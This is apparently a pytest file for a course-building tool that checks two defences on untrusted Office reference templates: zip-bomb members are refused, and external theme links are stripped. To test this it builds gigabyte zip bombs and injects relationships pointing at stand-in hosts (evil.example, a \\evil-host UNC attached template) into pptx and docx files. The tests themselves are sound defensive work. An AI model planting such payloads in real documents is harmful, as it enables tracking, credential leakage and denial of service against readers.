"""Issue 10: a course's reference deck and document are untrusted zips. A zip bomb is refused from
the zip's directory, before python-pptx or python-docx reads it; a theme's external links never
reach an output (Office would fetch them when a trainee opens it)."""

from __future__ import annotations

import re
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from trainerkit import limits
from trainerkit.resources import builtin

from .conftest import assert_clean_failure, trainerkit, write_course

THEMES = {"pptx": "reference deck", "docx": "reference document"}


def rewrite(source: Path, target: Path, changes: dict[str, bytes] = {}, extra=None) -> Path:
    """A copy of a zip with some members replaced; extra(z) may add members."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, changes.get(info.filename, src.read(info)))
        if extra:
            extra(z)
    return target


def zeros(z: zipfile.ZipFile, name: str, size: int) -> None:
    """A member of size zeros, deflated as it is written (never whole in memory)."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with z.open(info, "w", force_zip64=True) as f:
        chunk = bytes(2**20)
        for _ in range(size // len(chunk)):
            f.write(chunk)


def course_with(tmp_path: Path, kind: str, make) -> Path:
    course = write_course(tmp_path / "c", {"course.yml": f"title: T\ntheme:\n  {kind}: templates/ref.{kind}\n"})
    (course / "templates").mkdir(exist_ok=True)
    make(course / "templates" / f"ref.{kind}")
    return course


@pytest.mark.parametrize("kind", ["pptx", "docx"])
def test_a_part_that_unpacks_to_gigabytes(tmp_path: Path, kind: str) -> None:
    size = 2**30  # 1 GiB of zeros: about 1 MB packed
    course = course_with(tmp_path, kind, lambda p: rewrite(
        builtin(f"reference.{kind}"), p, extra=lambda z: zeros(z, "docProps/thumbnail.bin", size)))
    assert (course / "templates" / f"ref.{kind}").stat().st_size < 5 * 2**20
    started = time.monotonic()
    run = trainerkit("build", str(course), "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert_clean_failure(run, f"ref.{kind}: error:", "MAX_REFERENCE_PART_BYTES", "thumbnail.bin")
    assert time.monotonic() - started < 20
    assert not (tmp_path / "out" / "deck.pptx").exists()


@pytest.mark.parametrize("kind", ["pptx", "docx"])
def test_a_part_far_more_compressed_than_xml(tmp_path: Path, kind: str) -> None:
    size = 20 * 2**20  # under the part limit, but 1,000:1
    course = course_with(tmp_path, kind, lambda p: rewrite(
        builtin(f"reference.{kind}"), p, extra=lambda z: zeros(z, "docProps/zeros.bin", size)))
    run = trainerkit("build", str(course), "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert_clean_failure(run, f"ref.{kind}: error:", "MAX_REFERENCE_RATIO")


def test_a_reference_that_is_no_zip(tmp_path: Path) -> None:
    course = course_with(tmp_path, "pptx", lambda p: p.write_bytes(b"PK\x03\x04" + bytes(100)))
    run = trainerkit("build", str(course), "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert_clean_failure(run, "ref.pptx: error:", "not a valid Office file")


EVIL = ("http://evil.example/track.png", r"\\evil-host\share\t.dotx")


def _external(rels: bytes, rid: str, target: str, kind: str) -> bytes:
    rel = (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
           f'relationships/{kind}" Target="{target}" TargetMode="External"/>').encode()
    return rels.replace(b"</Relationships>", rel + b"</Relationships>")


def evil_pptx(path: Path) -> Path:
    src = builtin("reference.pptx")
    with zipfile.ZipFile(src) as z:
        rels = z.read("ppt/slideMasters/_rels/slideMaster1.xml.rels")
        master = z.read("ppt/slideMasters/slideMaster1.xml")
        root_rels = z.read("_rels/.rels")
    rels = _external(rels, "rId901", EVIL[0], "hyperlink")
    rels = _external(rels, "rId902", EVIL[1].replace("\\", "\\"), "image")
    # The master's first shape name links out (a click hyperlink pointing at rId901).
    master = re.sub(rb"(<p:cNvPr [^>]*?)/>", rb'\1><a:hlinkClick r:id="rId901"/></p:cNvPr>', master, count=1)
    root_rels = _external(root_rels, "rId903", EVIL[0] + "?pkg", "hyperlink")
    return rewrite(src, path, {"ppt/slideMasters/_rels/slideMaster1.xml.rels": rels,
                               "ppt/slideMasters/slideMaster1.xml": master, "_rels/.rels": root_rels})


def evil_docx(path: Path) -> Path:
    src = builtin("reference.docx")
    with zipfile.ZipFile(src) as z:
        settings = z.read("word/settings.xml")
        doc_rels = z.read("word/_rels/document.xml.rels")
    settings = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rId901"/>', settings, count=1)
    if b'xmlns:r=' not in settings.split(b">", 2)[1]:
        settings = settings.replace(b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ', 1)
    settings_rels = _external(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
                              "rId901", EVIL[1], "attachedTemplate")
    doc_rels = _external(doc_rels, "rId902", EVIL[0], "image")

    def extra(z):
        z.writestr("word/_rels/settings.xml.rels", settings_rels)
    return rewrite(src, path, {"word/settings.xml": settings, "word/_rels/document.xml.rels": doc_rels}, extra)


def external_targets(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        found = []
        for name in z.namelist():
            if name.endswith(".rels"):
                found += re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', z.read(name).decode())
        return found


@pytest.mark.parametrize("kind, make, outputs", [
    ("pptx", evil_pptx, ["deck.pptx"]),
    ("docx", evil_docx, ["handout.docx", "guide.docx"]),
])
def test_external_links_of_a_theme_are_stripped_with_a_warning(tmp_path: Path, kind, make, outputs) -> None:
    course = course_with(tmp_path, kind, make)
    assert external_targets(course / "templates" / f"ref.{kind}")  # the attack is there
    # The trainer's own link must survive: it is theirs, not the theme's.
    (course / "modules" / "01-a.md").write_text(
        "---\ntitle: A\nduration: 10\nobjectives:\n  - Do a thing\n---\n\n# S\n\n## Slide\n\n"
        "- see [the wiki](https://wiki.example/page)\n", encoding="utf-8")
    run = trainerkit("build", str(course), "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert "Traceback" not in run.output and run.returncode == 0, run.output
    assert f"ref.{kind}: warning:" in run.stderr and "evil" in run.stderr, run.stderr
    for name in outputs:
        targets = external_targets(tmp_path / "out" / name)
        assert not [t for t in targets if "evil" in t], (name, targets)
        assert any("wiki.example" in t for t in targets), (name, targets)
        with zipfile.ZipFile(tmp_path / "out" / name) as z:  # no XML still points at a removed rel
            for member in z.namelist():
                if member.endswith(".xml") and not member.endswith(".rels"):
                    xml = z.read(member).decode("utf-8")
                    assert "rId901" not in xml or "r:id=\"rId901\"" not in xml, member
    # Office's own reader opens the result.
    if kind == "pptx":
        from pptx import Presentation
        assert len(Presentation(str(tmp_path / "out" / "deck.pptx")).slides) > 0
    else:
        import docx
        assert docx.Document(str(tmp_path / "out" / "handout.docx")).paragraphs


def test_the_built_in_and_fixture_references_are_far_below_the_limits() -> None:
    root = Path(__file__).resolve().parents[2]
    for path in [builtin("reference.pptx"), builtin("reference.docx"),
                 *root.glob("tests/fixtures/*/templates/reference.*")]:
        with zipfile.ZipFile(path) as z:
            infos = z.infolist()
        assert len(infos) * 10 < limits.MAX_REFERENCE_PARTS
        assert max(i.file_size for i in infos) * 10 < limits.MAX_REFERENCE_PART_BYTES
        assert sum(i.file_size for i in infos) * 10 < limits.MAX_REFERENCE_BYTES
        assert all(i.file_size < limits.REFERENCE_RATIO_FLOOR
                   or i.file_size / i.compress_size < limits.MAX_REFERENCE_RATIO / 2 for i in infos)
